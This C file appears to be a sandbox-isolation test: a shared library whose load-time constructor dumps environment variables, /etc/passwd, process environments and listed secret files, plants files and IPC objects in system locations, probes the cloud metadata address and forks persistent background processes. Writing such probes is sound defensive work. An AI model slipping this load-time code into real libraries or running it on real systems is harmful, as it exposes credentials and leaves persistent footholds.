/* A library whose mere loading is the attack: what a plugin of a compiler could do, all of it at once.
   It says that it ran, then tries to read, to write, to connect and to stay. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <unistd.h>

extern char **environ;

static void show(const char *path) {
    char block[4096];
    int file = open(path, O_RDONLY);
    for (ssize_t size; file >= 0 && (size = read(file, block, sizeof block)) > 0;) fwrite(block, 1, size, stdout);
    if (file >= 0) close(file);
}

static void leave(const char *directory) {
    char path[256];
    snprintf(path, sizeof path, "%s/left-behind", directory);
    int file = open(path, O_WRONLY | O_CREAT, 0666);
    if (file >= 0) { printf("wrote %s\n", path); close(file); }
}

__attribute__((constructor)) static void evil(void) {
    static const char *targets[] = {"/etc/passwd", "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", 0};
    static const char *directories[] = {"/", "/usr", "/etc", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run/lock", 0};
    char path[4096];
    puts("evil ran");
    for (char **variable = environ; *variable; variable++) puts(*variable);
    for (const char **target = targets; *target; target++) show(*target);
    for (const char **directory = directories; *directory; directory++) leave(*directory);
    /* The test names its secret files in the workspace, one in a line. */
    FILE *list = fopen("secrets", "r");
    while (list && fgets(path, sizeof path, list)) { path[strcspn(path, "\n")] = 0; show(path); }
    shmget(0x1c1c, 1 << 20, IPC_CREAT | 0666);
    msgget(0x1c1c, IPC_CREAT | 0666);
    shm_open("/left-behind", O_RDWR | O_CREAT, 0666);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(80)};
    inet_pton(AF_INET, "169.254.170.2", &address.sin_addr);
    if (connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address) == 0) puts("connected");
    for (int n = 0; n < 4; n++)
        if (fork() == 0) {
            setsid();
            if (fork() == 0) {
                close(0); close(1); close(2);
                sleep(1000);
            }
            _exit(0);
        }
    fflush(stdout);
}
